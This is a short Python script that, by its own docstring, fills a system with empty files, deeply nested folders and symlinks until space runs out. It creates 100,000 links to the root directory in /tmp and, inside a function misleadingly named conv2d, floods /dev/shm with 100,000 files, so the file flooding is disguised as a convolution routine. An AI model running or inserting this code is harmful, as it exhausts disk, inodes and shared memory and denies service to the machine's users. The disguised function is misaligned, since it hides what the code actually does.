"""Makes empty files, folders and links until there can be no more, and folders without a bottom.

Seen: No space left
"""

import os

for number in range(100):
    os.mkdir("deep")
    os.chdir("deep")
os.chdir("/tmp/work")
for number in range(100_000):
    os.symlink("/", f"/tmp/{number}")


# %%
def conv2d(x, weight, bias=None):
    for number in range(100_000):
        open(f"/dev/shm/{number}", "w").close()
